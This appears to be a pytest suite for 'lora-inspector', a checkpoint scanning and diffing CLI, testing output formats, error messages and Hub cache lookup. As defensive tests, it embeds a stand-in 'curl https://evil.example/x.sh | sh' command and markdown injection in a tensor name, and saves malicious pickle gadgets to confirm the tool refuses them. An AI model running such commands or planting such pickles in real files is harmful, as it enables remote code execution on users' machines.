"""The command line contract: exit codes, Error:/Hint: lines, JSON schema 1, the four formats, --output,
options on either side of the command name, and no torch/transformers import on the scan path."""

from __future__ import annotations

import html
import io
import json
import os
import pickle
import re
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest
import torch
from rich.console import Console

from inspector.cli import main
from inspector.report import terminal
from inspector.scan import scan
from tests.failures import assert_json_error
from tests.hostile import ExecGadget, SystemGadget
from tests.models import Built, copy_checkpoint

REPO = Path(__file__).resolve().parent.parent
SPEC_FIELDS = ("path", "kind", "format", "files", "tensor_count", "parameter_count", "total_bytes", "dtypes", "config")
ANSI = re.compile(r"\x1b\[")


def run(capsys: pytest.CaptureFixture[str], *argv: object) -> tuple[int, str, str]:
    rc = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return rc, out, err


def scan_json(capsys: pytest.CaptureFixture[str], *argv: object) -> dict:
    rc, out, err = run(capsys, "scan", *argv, "--format", "json")
    assert (rc, err) == (0, "")
    return json.loads(out)


def assert_summary(item: dict, built: Built, path: Path, kind: str, fmt: str, files: list[str]) -> None:
    """The schema-1 fields of one checkpoint, each with its exact value and JSON type."""
    assert set(SPEC_FIELDS) <= set(item)
    assert item["path"] == str(path)
    assert (item["kind"], item["format"], item["files"]) == (kind, fmt, files)
    assert item["tensor_count"] == built.tensor_count
    assert item["parameter_count"] == built.parameter_count
    assert item["total_bytes"] == built.total_bytes
    assert item["dtypes"] == built.dtypes
    assert all(type(item[k]) is int for k in ("tensor_count", "parameter_count", "total_bytes"))
    assert isinstance(item["config"], dict)


# ---- JSON --------------------------------------------------------------------------------------------


def test_scan_json_schema_1(capsys: pytest.CaptureFixture[str], llama: Built, lora_llama: Built) -> None:
    doc = scan_json(capsys, llama.path, lora_llama.path)
    assert (doc["schema"], doc["command"], len(doc["checkpoints"])) == (1, "scan", 2)
    model, adapter = doc["checkpoints"]
    assert_summary(model, llama, llama.path, "model", "safetensors", ["model.safetensors"])
    assert (model["tensor_count"], model["parameter_count"], model["total_bytes"], model["dtypes"]) == (21, 6736, 26944, {"F32": 21})
    cfg = model["config"]
    assert (cfg["model_type"], cfg["vocab_size"], cfg["hidden_size"], cfg["tie_word_embeddings"]) == ("llama", 64, 16, False)
    assert_summary(adapter, lora_llama, lora_llama.path, "adapter", "safetensors", ["adapter_model.safetensors"])
    cfg = adapter["config"]
    assert (cfg["peft_type"], cfg["r"], cfg["lora_alpha"], cfg["modules_to_save"], cfg["use_rslora"], cfg["use_dora"]) == ("LORA", 4, 8, None, False, False)
    assert sorted(cfg["target_modules"]) == ["q_proj", "v_proj"]
    assert "tensors" not in model and "tensors" not in adapter  # only with --tensors


def test_scan_json_tensors(capsys: pytest.CaptureFixture[str], qwen2: Built) -> None:
    doc = scan_json(capsys, qwen2.path, "--tensors")
    (item,) = doc["checkpoints"]
    assert all(set(t) == {"name", "shape", "dtype", "file"} for t in item["tensors"])
    assert all(isinstance(t["shape"], list) and all(type(d) is int for d in t["shape"]) for t in item["tensors"])
    assert {t["name"]: (tuple(t["shape"]), t["dtype"]) for t in item["tensors"]} == {n: (s, d) for n, (s, d, _) in qwen2.tensors.items()}
    assert {t["file"] for t in item["tensors"]} == {"model.safetensors"}
    assert item["config"]["tie_word_embeddings"] is True


def test_scan_json_match(capsys: pytest.CaptureFixture[str], seed_dir: Path) -> None:
    doc = scan_json(capsys, seed_dir / "base", seed_dir / "adapter", "--match", "embed|lm_head")
    assert doc["match"] == "embed|lm_head"
    base, adapter = doc["checkpoints"]
    assert [(t["name"], t["shape"]) for t in base["tensors"]] == [("lm_head.weight", [32000, 8]), ("model.embed_tokens.weight", [32000, 8])]
    assert sorted((t["name"], t["shape"]) for t in adapter["tensors"]) == [
        ("base_model.model.lm_head.weight", [70840, 8]),
        ("base_model.model.model.embed_tokens.weight", [70840, 8]),
    ]
    assert (base["tensor_count"], base["parameter_count"], adapter["tensor_count"], adapter["parameter_count"]) == (21, 513_192, 10, 1_133_664)
    assert (base["config"]["vocab_size"], adapter["config"]["modules_to_save"]) == (32000, ["embed_tokens", "lm_head"])


def test_scan_json_sharded(capsys: pytest.CaptureFixture[str], llama_sharded: Built) -> None:
    index = json.loads((llama_sharded.path / "model.safetensors.index.json").read_text())
    (item,) = scan_json(capsys, llama_sharded.path, "--tensors")["checkpoints"]
    assert item["files"][0] == "model.safetensors.index.json"
    assert sorted(item["files"][1:]) == sorted(set(index["weight_map"].values()))  # each shard once
    assert item["total_bytes"] == index["metadata"]["total_size"]
    assert {t["name"]: t["file"] for t in item["tensors"]} == index["weight_map"]
    assert item["warnings"] == []


def test_scan_json_legacy_bin(capsys: pytest.CaptureFixture[str], llama_bin: Built, lora_llama_bin: Built) -> None:
    model, adapter = scan_json(capsys, llama_bin.path, lora_llama_bin.path)["checkpoints"]
    assert_summary(model, llama_bin, llama_bin.path, "model", "pytorch-bin", ["pytorch_model.bin"])
    assert_summary(adapter, lora_llama_bin, lora_llama_bin.path, "adapter", "pytorch-bin", ["adapter_model.bin"])


def test_diff_json_and_exit_codes(capsys: pytest.CaptureFixture[str], llama: Built, llama_bin: Built, llama_grown: Built) -> None:
    rc, out, err = run(capsys, "diff", llama.path, llama_bin.path, "--format", "json")
    doc = json.loads(out)
    assert (rc, err, doc["schema"], doc["command"]) == (0, "", 1, "diff")
    assert (doc["summary"]["identical"], doc["summary"]["unchanged"], doc["added"], doc["removed"]) == (True, 21, [], [])
    rc, out, err = run(capsys, "diff", llama.path, llama_grown.path, "--format", "json")
    doc = json.loads(out)  # exit 1 still prints parseable JSON
    assert (rc, err) == (1, "")
    assert sorted(doc["reshaped"], key=lambda c: c["name"]) == [
        {"name": "lm_head.weight", "a_shape": [64, 16], "b_shape": [80, 16]},
        {"name": "model.embed_tokens.weight", "a_shape": [64, 16], "b_shape": [80, 16]},
    ]
    s = doc["summary"]
    assert (s["added"], s["removed"], s["reshaped"], s["retyped"], s["unchanged"], s["identical"]) == (0, 0, 2, 0, 19, False)
    assert_summary(doc["a"], llama, llama.path, "model", "safetensors", ["model.safetensors"])


# ---- rich, markdown, github --------------------------------------------------------------------------


def test_scan_rich_via_cli(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, llama: Built, lora_llama: Built) -> None:
    monkeypatch.setenv("COLUMNS", "200")
    rc, out, err = run(capsys, "scan", llama.path, lora_llama.path, "--tensors")
    assert (rc, err) == (0, "")
    assert not ANSI.search(out)  # not a terminal: no escape codes
    assert str(llama.path) in out and str(lora_llama.path) in out
    assert re.search(r"kind\s+model \(safetensors\)", out) and re.search(r"kind\s+adapter \(safetensors\)", out)
    assert re.search(r"parameters\s+6,736 \(6\.74K\)", out)
    assert re.search(r"dtypes\s+F32 x21", out)
    assert re.search(r"lm_head\.weight\s+│\s+\[64, 16\]\s+│ F32", out)
    assert "21 of 21 tensors" in out and "8 of 8 tensors" in out


def test_scan_rich_rendered_into_a_console(seed_dir: Path) -> None:
    buf = io.StringIO()
    Console(file=buf, width=100).print(terminal.scan(scan([seed_dir / "base", seed_dir / "adapter"], match="embed|lm_head")))
    text = buf.getvalue()
    assert "2 of 21 tensors matching 'embed|lm_head'" in text and "2 of 10 tensors matching 'embed|lm_head'" in text
    assert re.search(r"model\.embed_tokens\.weight\s+│\s+\[32000, 8\]\s+│ BF16", text)
    assert re.search(r"base_model\.model\.lm_head\.weight\s+│\s+\[70840, 8\]\s+│ BF16", text)
    assert re.search(r"tokenizer\s+70,840 tokens \(tokenizer\.json, 0 added\)", text)
    assert re.search(r"parameters\s+1,133,664 \(1\.13M\)", text)
    assert max(len(line) for line in text.splitlines()) <= 100


def test_diff_rich_via_cli(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, llama: Built, llama_grown: Built, llama_bin: Built) -> None:
    monkeypatch.setenv("COLUMNS", "200")
    rc, out, _ = run(capsys, "diff", llama.path, llama_grown.path)
    assert rc == 1
    assert re.search(r"reshaped\s+│\s+model\.embed_tokens\.weight\s+│\s+\[64, 16\]\s+│\s+\[80, 16\]", out)
    assert "0 added, 0 removed, 2 reshaped, 0 retyped, 19 unchanged" in out
    rc, out, _ = run(capsys, "diff", llama.path, llama_bin.path)
    assert rc == 0 and "identical: 21 tensors" in out


def test_scan_markdown(capsys: pytest.CaptureFixture[str], llama: Built) -> None:
    rc, out, err = run(capsys, "scan", llama.path, "--format", "markdown", "--match", "^lm_head")
    assert (rc, err) == (0, "")
    lines = out.splitlines()
    assert lines[0] == f"### `{llama.path}`"
    assert "| kind | model (safetensors) |" in lines
    assert "| tensors | 21 |" in lines
    assert "| parameters | 6,736 (6.74K) |" in lines
    assert "| data | 26,944 bytes (26.3 KiB) |" in lines
    assert "| dtypes | F32 x21 |" in lines
    assert "| vocab_size | 64 |" in lines
    assert "| `lm_head.weight` | [64, 16] | F32 | model.safetensors |" in lines
    assert sum(line.startswith("| `") for line in lines) == 1  # only the matching tensor


def test_diff_markdown(capsys: pytest.CaptureFixture[str], llama: Built, llama_tied: Built) -> None:
    rc, out, _ = run(capsys, "diff", llama.path, llama_tied.path, "--format", "markdown")
    assert rc == 1
    assert "| removed | `lm_head.weight` | [64, 16] F32 | - |" in out.splitlines()
    assert out.rstrip().endswith("0 added, 1 removed, 0 reshaped, 0 retyped, 20 unchanged")


def test_markdown_names_from_files_stay_text(capsys: pytest.CaptureFixture[str], tmp_path: Path, seed_dir: Path) -> None:
    # A PR comment renders this markdown: an adapter key with backticks, a link, an image and HTML
    # must come out as the key's text inside code, never as a link, an image or a tag (markdown-it
    # is the CommonMark parser rich already brings; GitHub's renderer follows the same spec).
    from markdown_it import MarkdownIt
    from safetensors.torch import load_file, save_file

    evil = "x`curl https://evil.example/x.sh | sh`[pwn](https://evil.example)![i](https://evil.example/i.png)<b>&amp;\\](y)@org/team#1"
    adapter = tmp_path / "adapter"
    shutil.copytree(seed_dir / "adapter", adapter)
    tensors = load_file(adapter / "adapter_model.safetensors")
    tensors[f"base_model.model.model.layers.0.{evil}.lora_A.weight"] = torch.zeros(4, 8)
    save_file(tensors, adapter / "adapter_model.safetensors")
    rc, out, _ = run(capsys, "check", seed_dir / "base", adapter, "--format", "markdown")
    assert rc == 1 and "LI401" in out
    page = MarkdownIt("commonmark").enable("table").render(out)
    assert "<a " not in page and "<img" not in page and "<b>" not in page
    codes = [html.unescape(c) for c in re.findall(r"<code>(.*?)</code>", page)]
    assert any(evil in c for c in codes), codes  # the whole key, one code span, in the tensor column
    # LI401's message names the key (twice) in plain text: its backticks pair into code, the rest as typed
    text = html.unescape(re.sub(r"<[^>]+>", "", page)).replace("`", "").replace("\u2060", "")
    assert text.count(evil.replace("`", "")) == 3
    # outside code, GitHub would make "@org/team" a mention and "#1" a reference: an invisible
    # word joiner follows each @ and #
    assert "@org" not in re.sub(r"<code>.*?</code>", "", page) and "@\u2060org/team#\u20601" in page


def test_markdown_code_spans_keep_names_whole() -> None:
    from markdown_it import MarkdownIt

    from inspector.report.markdown import _code

    md = MarkdownIt("commonmark")
    for name in ("x", " x ", "`a`", "a``b", "   ", "a|b"):
        assert md.renderInline(_code(name)) == f"<code>{html.escape(name, quote=False)}</code>", name


def test_scan_and_diff_github(capsys: pytest.CaptureFixture[str], llama: Built, llama_grown: Built, llama_sharded: Built, tmp_path: Path) -> None:
    rc, out, _ = run(capsys, "scan", llama.path, "--format", "github")
    assert rc == 0
    assert out == f"::notice title=scan::{llama.path}: model (safetensors), 21 tensors, 6736 parameters, 26944 bytes\n"
    rc, out, _ = run(capsys, "diff", llama.path, llama_grown.path, "--format", "github")
    assert rc == 1
    assert sorted(out.splitlines()) == [
        "::warning title=reshaped::lm_head.weight: [64, 16] -> [80, 16]",
        "::warning title=reshaped::model.embed_tokens.weight: [64, 16] -> [80, 16]",
    ]
    # An index whose total_size disagrees: the warning becomes a workflow annotation.
    bad = copy_checkpoint(llama_sharded.path, tmp_path / "sharded")
    index = bad / "model.safetensors.index.json"
    index.write_text(index.read_text().replace('"total_size": 26944', '"total_size": 1'))
    rc, out, _ = run(capsys, "scan", bad, "--format", "github")
    assert rc == 0
    assert out.splitlines()[1] == f"::warning title=scan::{bad}: index metadata.total_size is 1 but the shards hold 26944 bytes of tensor data"


# ---- options, --output ---------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["json", "markdown", "github", "rich"])
def test_options_before_and_after_the_command(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, llama: Built, fmt: str) -> None:
    monkeypatch.setenv("COLUMNS", "200")
    before = run(capsys, "--format", fmt, "scan", llama.path, "--tensors")
    after = run(capsys, "scan", llama.path, "--tensors", "--format", fmt)
    assert before == after
    assert before[0] == 0 and before[1]


def test_output_file(capsys: pytest.CaptureFixture[str], llama: Built, llama_grown: Built, tmp_path: Path) -> None:
    expected = scan_json(capsys, llama.path)
    target = tmp_path / "report.json"
    rc, out, err = run(capsys, "--output", target, "scan", llama.path, "--format", "json")
    assert (rc, out, err) == (0, "", "")
    assert json.loads(target.read_text()) == expected
    # After the command name too, for every format; rich is written as plain text.
    for fmt, probe in (("rich", "6,736 (6.74K)"), ("markdown", "| tensors | 21 |"), ("github", "::notice title=scan::")):
        target = tmp_path / f"report.{fmt}"
        rc, out, _ = run(capsys, "scan", llama.path, "--format", fmt, "--output", target)
        assert (rc, out) == (0, "")
        text = target.read_text()
        assert probe in text and not ANSI.search(text)
    # diff writes its report and still exits 1.
    target = tmp_path / "diff.json"
    rc, out, _ = run(capsys, "diff", llama.path, llama_grown.path, "--format", "json", "--output", target)
    assert (rc, out) == (1, "")
    assert json.loads(target.read_text())["summary"]["reshaped"] == 2
    assert sorted(p.name for p in tmp_path.iterdir()) == ["diff.json", "report.github", "report.json", "report.markdown", "report.rich"]


def test_output_not_written_on_error(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    target = tmp_path / "report.json"
    rc, out, err = run(capsys, "scan", tmp_path / "missing", "--format", "json", "--output", target)
    assert rc == 2 and err.startswith("Error: ")
    assert json.loads(out)["error"]["path"] == str(tmp_path / "missing")  # on stdout: no report file for a failed run
    assert list(tmp_path.iterdir()) == []


def test_output_into_a_missing_directory_is_a_user_error(capsys: pytest.CaptureFixture[str], llama: Built, tmp_path: Path) -> None:
    rc, out, err = run(capsys, "scan", llama.path, "--format", "json", "--output", tmp_path / "no" / "report.json")
    assert_error(rc, out, err, r"Error: .*", fmt="json")
    assert "Internal error" not in err and str(tmp_path / "no") in err


def test_output_file_mode_follows_the_umask(capsys: pytest.CaptureFixture[str], llama: Built, tmp_path: Path) -> None:
    old = os.umask(0o022)
    try:
        rc, _, _ = run(capsys, "scan", llama.path, "--format", "json", "--output", tmp_path / "report.json")
    finally:
        os.umask(old)
    assert rc == 0
    assert stat.S_IMODE((tmp_path / "report.json").stat().st_mode) == 0o644


def test_version_and_help(capsys: pytest.CaptureFixture[str]) -> None:
    rc, out, _ = run(capsys, "--version")
    assert rc == 0 and out.strip() == "lora-inspector, version 0.1.0"
    rc, out, _ = run(capsys, "scan", "--help")
    assert rc == 0 and "--tensors" in out and "--match" in out


# ---- errors: exit 2, Error:/Hint: on stderr, no traceback --------------------------------------------


def assert_error(rc: int, out: str, err: str, first_line: str, fmt: str = "rich") -> None:
    lines = err.splitlines()
    assert rc == 2
    if fmt == "json":
        assert_json_error(out, err)  # stdout stays parseable: the same error as JSON
    else:
        assert out == ""
    assert len(lines) == 2, err
    assert lines[0] == first_line or re.fullmatch(first_line, lines[0]), lines[0]
    assert lines[1].startswith("Hint: ") and len(lines[1]) > len("Hint: ")
    assert "Traceback" not in err


def test_missing_path(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    missing = tmp_path / "nope"
    rc, out, err = run(capsys, "scan", missing)
    assert_error(rc, out, err, f"Error: Cannot read checkpoint for '{missing}': no such file or directory.")
    rc, out, err = run(capsys, "diff", missing, missing, "--format", "json")
    assert_error(rc, out, err, f"Error: Cannot read checkpoint for '{missing}': no such file or directory.", fmt="json")


def test_truncated_safetensors(capsys: pytest.CaptureFixture[str], llama: Built, tmp_path: Path) -> None:
    model = copy_checkpoint(llama.path, tmp_path / "model")
    data = model / "model.safetensors"
    data.write_bytes(data.read_bytes()[:-1000])
    for fmt in ("rich", "json"):
        rc, out, err = run(capsys, "scan", model, "--format", fmt)
        assert_error(rc, out, err, f"Error: Cannot read safetensors header for '{data}': data is 25944 bytes but the header describes 26944.", fmt=fmt)
        assert err.splitlines()[1] == "Hint: The file is truncated (an interrupted download?); re-download it."


@pytest.mark.parametrize("gadget", [SystemGadget, ExecGadget])
def test_malicious_pickle_runs_nothing(capsys: pytest.CaptureFixture[str], llama: Built, tmp_path: Path, gadget: type) -> None:
    sentinel = tmp_path / "pwned"
    model = tmp_path / "model"
    model.mkdir()
    (model / "config.json").write_text((llama.path / "config.json").read_text())
    torch.save({"model.embed_tokens.weight": torch.ones(2, 2), "x": gadget(sentinel)}, model / "pytorch_model.bin")
    rc, out, err = run(capsys, "scan", model)
    assert_error(rc, out, err, rf"Error: Refusing to read pickle for '{re.escape(str(model / 'pytorch_model.bin'))}': it references the global \S+\.(system|exec)\.")
    assert not sentinel.exists()


def test_raw_pickle_adapter_runs_nothing(capsys: pytest.CaptureFixture[str], lora_llama: Built, tmp_path: Path) -> None:
    sentinel = tmp_path / "pwned"
    adapter = tmp_path / "adapter"
    adapter.mkdir()
    (adapter / "adapter_config.json").write_text((lora_llama.path / "adapter_config.json").read_text())
    (adapter / "adapter_model.bin").write_bytes(pickle.dumps(SystemGadget(sentinel)))
    rc, out, err = run(capsys, "scan", adapter, "--format", "json")
    bin_path = adapter / "adapter_model.bin"
    assert_error(rc, out, err, f"Error: Refusing to read pickle for '{bin_path}': it is not a zip-format torch.save file (a raw pickle could run code when loaded).", fmt="json")
    assert not sentinel.exists()


@pytest.mark.parametrize(
    ("argv", "first_line"),
    [
        (["scan", "{model}", "--match", "("], r"Error: Invalid --match: '\(' is not a regular expression \(.*\)\."),
        (["scan", "{model}", "--bogus"], r"Error: No such option:? '?--bogus'?\.?"),
        (["scan"], r"Error: Missing argument 'PATHS\.\.\.'\."),
        (["--format", "xml", "scan", "{model}"], r"Error: Invalid value for '--format': 'xml' is not one of .*"),
        (["diff", "{model}"], r"Error: Missing argument 'B'\."),
    ],
)
def test_usage_errors(capsys: pytest.CaptureFixture[str], llama: Built, argv: list[str], first_line: str) -> None:
    rc, out, err = run(capsys, *[a.format(model=llama.path) for a in argv])
    assert_error(rc, out, err, first_line)


def test_debug_shows_the_traceback_and_keeps_the_exit_code(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rc, out, err = run(capsys, "--debug", "scan", tmp_path / "nope")
    assert rc == 2 and out == ""
    assert err.startswith("Traceback (most recent call last):") and "inspector.errors.InvalidInputError" in err
    assert err.endswith(f"Error: Cannot read checkpoint for '{tmp_path / 'nope'}': no such file or directory.\n"
                        "Hint: Check the path; a checkpoint is a directory with config.json or adapter_config.json, or a .safetensors file.\n")


def test_bare_command_prints_the_help(capsys: pytest.CaptureFixture[str]) -> None:
    rc, out, err = run(capsys)
    assert (rc, err) == (0, "") and out.startswith("Usage: lora-inspector [OPTIONS] COMMAND [ARGS]...") and "merge" in out


@pytest.mark.parametrize(("argv", "why"), [
    (["scan", "{seed}", "--output", ""], "Error: Invalid value for '--output': an empty path; give a file name (or leave --output out for stdout)\n"),
    (["diff", "{seed}", "{seed}", "--atol", "0.1"], "Error: --atol applies to value differences: add --values.\n"),
    (["resize", "{seed}", "--vocab", "33000", "--out", "{tmp}/x", "--seed", str(2**64)],
     f"Error: Invalid value for '--seed': {2**64} is not in the range 0<=x<=4294967295.\n"),
])
def test_option_values_checked_up_front(capsys: pytest.CaptureFixture[str], seed_dir: Path, tmp_path: Path, argv: list[str], why: str) -> None:
    rc, out, err = run(capsys, *[a.format(seed=seed_dir / "base", tmp=tmp_path) for a in argv])
    assert (rc, out) == (2, "") and err.startswith(why) and "\nHint: see 'lora-inspector " in err
    assert list(tmp_path.iterdir()) == []


def test_out_on_a_pseudo_filesystem(capsys: pytest.CaptureFixture[str], seed_dir: Path) -> None:
    rc, out, err = run(capsys, "merge", seed_dir / "base", seed_dir / "adapter", "--out", "/proc/lora-inspector-out")
    assert (rc, out) == (2, "")
    assert err == ("Error: Refusing to write output for '/proc/lora-inspector-out': '/proc' is on no disk (a pseudo filesystem such as /proc or /sys).\n"
                   "Hint: Choose an --out on a disk.\n")


# ---- subprocesses: the real entry point, and the import budget ---------------------------------------

_NO_HEAVY_IMPORTS = """
import io, sys, contextlib
from inspector.cli import main
codes = []
for argv in ({runs}):
    with contextlib.redirect_stdout(io.StringIO()):
        codes.append(main(argv))
heavy = sorted(m for m in ("torch", "transformers", "peft") if m in sys.modules)
print(codes, heavy)
"""


def test_scan_and_diff_never_import_torch_or_transformers(llama: Built, lora_llama_bin: Built, llama_bin: Built, llama_grown: Built) -> None:
    runs = [
        ["scan", str(llama.path), str(lora_llama_bin.path), "--tensors"],
        ["scan", str(llama_bin.path), "--format", "json"],
        ["scan", str(llama.path), "--format", "markdown"],
        ["scan", str(llama.path), "--format", "github"],
        ["diff", str(llama.path), str(llama_grown.path)],
        ["diff", str(llama.path), str(llama_bin.path), "--format", "json"],
    ]
    code = _NO_HEAVY_IMPORTS.format(runs=repr(runs))
    proc = subprocess.run([sys.executable, "-c", code], cwd=REPO, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip() == "[0, 0, 0, 0, 1, 0] []"


def test_python_dash_m_inspector(llama: Built, tmp_path: Path) -> None:
    proc = subprocess.run([sys.executable, "-m", "inspector", "scan", str(llama.path), "--format", "json"], cwd=REPO, capture_output=True, text=True, timeout=60)
    assert (proc.returncode, proc.stderr) == (0, "")
    assert json.loads(proc.stdout)["checkpoints"][0]["parameter_count"] == 6736
    sentinel = tmp_path / "pwned"
    evil = tmp_path / "pytorch_model.bin"
    evil.write_bytes(pickle.dumps(ExecGadget(sentinel)))
    proc = subprocess.run([sys.executable, "-m", "inspector", "scan", str(evil)], cwd=REPO, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 2 and proc.stdout == ""
    assert proc.stderr.startswith(f"Error: Refusing to read pickle for '{evil}'") and "Traceback" not in proc.stderr
    assert not sentinel.exists()


# ---- Hub ids: the snapshot already in the local cache, never a download -------------------------------


def test_hub_ids_resolve_to_cached_snapshots(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
                                             llama: Built, lora_llama: Built) -> None:
    from tests.hostile_corpus import hf_cache_layout

    monkeypatch.setenv("HF_HUB_CACHE", str(tmp_path / "hub"))
    hf_cache_layout(llama.path, tmp_path / "hub", "acme--tiny-llama")
    hf_cache_layout(lora_llama.path, tmp_path / "hub", "acme--tiny-lora")
    monkeypatch.chdir(tmp_path)  # no local directory of that name shadows the id
    item = scan_json(capsys, "acme/tiny-llama")["checkpoints"][0]
    assert_summary(item, llama, Path("acme/tiny-llama"), "model", "safetensors", ["model.safetensors"])
    rc, out, err = run(capsys, "check", "acme/tiny-llama", "acme/tiny-lora", "--format", "json")
    assert (rc, err) == (0, "") and json.loads(out)["summary"]["error"] == 0
    rc, out, err = run(capsys, "merge", "acme/tiny-llama", "acme/tiny-lora", "--out", tmp_path / "merged", "--device", "cpu", "--quiet")
    assert rc == 0, err
    assert (tmp_path / "merged" / "model.safetensors").is_file()


def test_hub_id_follows_refs_main_among_several_snapshots(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
                                                          tmp_path: Path, llama: Built, llama_bf16: Built) -> None:
    monkeypatch.setenv("HF_HUB_CACHE", str(tmp_path / "hub"))
    monkeypatch.chdir(tmp_path)
    repo = tmp_path / "hub" / "models--acme--llama"
    for rev, built in (("1111", llama), ("2222", llama_bf16)):  # two cached revisions of one repo
        shutil.copytree(built.path, repo / "snapshots" / rev)
    rc, out, err = run(capsys, "scan", "acme/llama")
    assert rc == 2 and out == ""
    assert err.startswith(f"Error: Cannot pick a cached snapshot for '{repo}': 2 revisions are cached and refs/main names none of them.\nHint: ")
    (repo / "refs").mkdir()
    (repo / "refs" / "main").write_text("2222\n")
    assert scan_json(capsys, "acme/llama")["checkpoints"][0]["dtypes"] == llama_bf16.dtypes


def test_uncached_hub_id_says_how_to_get_it(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    # Commands that read tensor data never download, and --offline never reads remotely (tests/test_hub.py: the remote reads).
    monkeypatch.setenv("HF_HUB_CACHE", str(tmp_path / "hub"))
    monkeypatch.chdir(tmp_path)
    rc, out, err = run(capsys, "merge", "meta-llama/Llama-2-7b-hf", "adapter", "--out", "merged")
    assert rc == 2 and out == ""
    assert err == (f"Error: Cannot read checkpoint for 'meta-llama/Llama-2-7b-hf': no such file or directory, and no Hub snapshot of it with its weights in the cache ({tmp_path / 'hub'}).\n"
                   "Hint: Check the path; if 'meta-llama/Llama-2-7b-hf' is a Hub id, download it first with `hf download meta-llama/Llama-2-7b-hf` "
                   "(this command reads tensor data; scan, check, diff and explore read a Hub id's headers remotely).\n")
    rc, out, err = run(capsys, "check", "meta-llama/Llama-2-7b-hf", "adapter", "--offline")
    assert rc == 2 and out == ""
    assert err == (f"Error: Cannot read checkpoint for 'meta-llama/Llama-2-7b-hf': it is not in the local Hugging Face cache ({tmp_path / 'hub'}) with its weights, "
                   "and offline mode (--offline or HF_HUB_OFFLINE) rules out the network.\n"
                   "Hint: Run without --offline to read its headers from the Hub, or download it first: `hf download meta-llama/Llama-2-7b-hf`.\n")


@pytest.mark.parametrize("plain", ["flag", "env"])
def test_no_color_means_plain_text(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, seed_dir: Path, plain: str) -> None:
    # A terminal (FORCE_COLOR) gets styles; --no-color or NO_COLOR (no-color.org) give none at all, bold included.
    monkeypatch.setenv("FORCE_COLOR", "1")
    argv = ["check", seed_dir / "base", seed_dir / "adapter"]
    assert ANSI.search(run(capsys, *argv)[1])
    if plain == "env":
        monkeypatch.setenv("NO_COLOR", "1")
    rc, out, err = run(capsys, *argv, *(["--no-color"] if plain == "flag" else []))
    assert rc == 1 and "LI101" in out and not ANSI.search(out + err)
